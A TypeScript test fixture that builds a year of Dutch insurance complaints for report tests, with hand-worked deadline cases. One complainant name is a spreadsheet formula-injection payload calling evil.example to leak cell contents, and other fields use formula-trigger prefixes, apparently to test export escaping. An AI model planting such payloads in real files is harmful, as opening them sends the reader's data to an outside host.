import type { Kysely } from 'kysely';
import { fixedClock } from '../../src/clock.ts';
import type { Database } from '../../src/db/schema.ts';
import { parseLocalDate } from '../../src/domain/calendar/local-date.ts';
import { takeStep, type ProcedureActionInput } from '../../src/procedure/procedure.service.ts';
import { recordKifidOutcome } from '../../src/reports/kifid-outcome.service.ts';
import { createTestComplaint, createTestOrganisation, type TestOrganisation } from './factories.ts';

/**
 * A small year of complaints with known content, taken through the real procedure steps on an
 * injected clock, for the report tests. The figures it must give are worked out by hand in
 * src/reports/reports.service.test.ts; the calendar facts they rest on:
 * - 1 January 2026 is Nieuwjaarsdag and 2 January 2026 is equated by royal decree (art. 3 lid 3);
 * - 1 February 2026 is a Sunday, so "1 month after 1 January" runs to Monday 2 February.
 * Moments are given in UTC; in winter Amsterdam is UTC+1.
 */
export const REPORT_NOW = new Date('2026-03-31T12:00:00Z');
export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")';

export interface ReportDataSet {
  org: TestOrganisation;
  ids: Record<'c1' | 'c2' | 'c3' | 'c4' | 'c5' | 'c6' | 'c7', string>;
  references: Record<'c1' | 'c2' | 'c3' | 'c4' | 'c5' | 'c6' | 'c7', string>;
}

export async function createReportDataSet(db: Kysely<Database>): Promise<ReportDataSet> {
  const clock = fixedClock(new Date('2025-12-01T09:00:00Z'));
  const org = await createTestOrganisation(db, clock);
  const deps = { db, clock };
  const at = (iso: string) => {
    clock.set(new Date(iso));
    return clock.now();
  };
  const step = (id: string, when: string, input: ProcedureActionInput, as = org.coordinator.context) => {
    at(when);
    return takeStep(deps, as, id, input);
  };
  const complaint = async (receivedAt: string, overrides: Parameters<typeof createTestComplaint>[2]) =>
    await createTestComplaint(db, org, { receivedAt: at(receivedAt), ...overrides }, clock);

  // C1: received on Nieuwjaarsdag. Acknowledged 7 Jan (due 7 Jan: 2 Jan is no working day),
  // information asked 8 Jan (due 16 Jan), position in a meeting 29 Jan (due 2 Feb). 28 days.
  const c1 = await complaint('2026-01-01T09:00:00Z', {
    channel: 'email',
    product: 'Woonhuisverzekering',
    handlerId: org.handler.id,
    complainant: { name: 'Anna Jansen', street: 'Dorpsstraat 1', postalCode: '1234 AB', city: 'Utrecht' },
  });
  await step(c1.id, '2026-01-07T16:00:00Z', { action: 'acknowledge' });
  await step(c1.id, '2026-01-08T09:00:00Z', {
    action: 'request_information',
    whatIsMissing: 'Het polisnummer.',
  });
  await step(c1.id, '2026-01-29T10:00:00Z', {
    action: 'record_meeting',
    heldAt: new Date('2026-01-29T09:00:00Z'),
    minutes: 'Besproken.',
  });
  await step(c1.id, '2026-01-30T09:00:00Z', {
    action: 'close',
    category: 'Schadebehandeling',
    rootCause: 'Expert te laat ingeschakeld',
    outcome: 'gegrond',
  });

  // C2: acknowledged late (due 8 Jan, sent 9 Jan); no information needed (9 Jan, due 19 Jan);
  // delay notice 4 Feb (term 5 Feb) to 20 Feb; position 18 Feb: late against the month, on time
  // against the moved target. 44 days. Then KiFiD, which rejected the claim.
  const c2 = await complaint('2026-01-05T09:00:00Z', {
    channel: 'web_form',
    product: 'Woonhuisverzekering',
    handlerId: org.handler.id,
    complainant: { name: 'Bram de Boer', email: 'bram@example.nl', city: 'Zwolle' },
  });
  await step(c2.id, '2026-01-09T09:00:00Z', { action: 'acknowledge' });
  await step(c2.id, '2026-01-09T10:00:00Z', { action: 'close_information_not_needed' });
  await step(c2.id, '2026-02-04T09:00:00Z', {
    action: 'send_delay_notice',
    reason: 'Wij wachten op het rapport van de expert.',
    newDate: parseLocalDate('2026-02-20'),
  });
  await step(c2.id, '2026-02-18T10:00:00Z', {
    action: 'record_meeting',
    heldAt: new Date('2026-02-18T09:00:00Z'),
    minutes: 'Besproken.',
  });
  await step(c2.id, '2026-02-19T09:00:00Z', {
    action: 'close',
    category: 'schadebehandeling',
    rootCause: 'expert te laat  ingeschakeld',
    outcome: 'deels_gegrond',
  });
  await step(c2.id, '2026-03-02T09:00:00Z', { action: 'record_kifid_referral', caseNumber: 'GC-2026-0001' });
  at('2026-03-20T09:00:00Z');
  await recordKifidOutcome(deps, org.coordinator.context, c2.id, {
    outcomeCode: 'afgewezen',
    decidedOn: parseLocalDate('2026-03-20'),
  });

  // C3: acknowledged in time; no information question by 3 Feb (missed); position 24 Feb after
  // the month (due 20 Feb) without a delay notice (missed). 35 days.
  const c3 = await complaint('2026-01-20T09:00:00Z', {
    channel: 'phone',
    product: 'Autoverzekering',
    handlerId: org.coordinator.id,
    complainant: { name: 'Chris Visser', phone: '0592 123456', city: 'Assen' },
  });
  await step(c3.id, '2026-01-21T09:00:00Z', { action: 'acknowledge' });
  await step(c3.id, '2026-02-24T10:00:00Z', {
    action: 'record_meeting',
    heldAt: new Date('2026-02-24T09:00:00Z'),
    minutes: 'Besproken.',
  });
  await step(c3.id, '2026-02-25T09:00:00Z', {
    action: 'close',
    category: 'Premie',
    rootCause: 'Expert te laat ingeschakeld',
    outcome: 'ongegrond',
  });

  // C4: acknowledged in time, withdrawn 10 Feb before any other term ran out.
  const c4 = await complaint('2026-02-02T09:00:00Z', {
    channel: 'email',
    product: null,
    handlerId: org.handler.id,
    complainant: { name: 'Dirk Smit', email: 'dirk@example.nl' },
  });
  await step(c4.id, '2026-02-03T09:00:00Z', { action: 'acknowledge' });
  await step(c4.id, '2026-02-10T09:00:00Z', { action: 'withdraw' });

  // C5: a letter received on 30 March (summer time), nothing done yet: every clock still runs.
  const c5 = await complaint('2026-03-30T09:00:00Z', {
    channel: 'letter',
    product: 'Autoverzekering',
    complainant: { name: HOSTILE_NAME, street: '+31 Straat 1', postalCode: '9999 ZZ', city: '@Stad' },
    description: '-1+1 is geen klacht; wel dat niemand belt.',
  });

  // C6: turned out to be a question: in the register, not in the figures.
  const c6 = await complaint('2026-02-10T09:00:00Z', {
    channel: 'email',
    complainant: { name: 'Eva Mulder', email: 'eva@example.nl' },
  });
  await step(c6.id, '2026-02-11T09:00:00Z', { action: 'reclassify', kind: 'question', reason: 'Een vraag.' });

  // C7: received before the period.
  const c7 = await complaint('2025-12-15T09:00:00Z', {
    channel: 'email',
    handlerId: org.handler.id,
    complainant: { name: 'Frank Bakker', email: 'frank@example.nl' },
  });

  clock.set(REPORT_NOW);
  const all = { c1, c2, c3, c4, c5, c6, c7 };
  return {
    org,
    ids: Object.fromEntries(Object.entries(all).map(([k, v]) => [k, v.id])) as ReportDataSet['ids'],
    references: Object.fromEntries(
      Object.entries(all).map(([k, v]) => [k, v.reference]),
    ) as ReportDataSet['references'],
  };
}
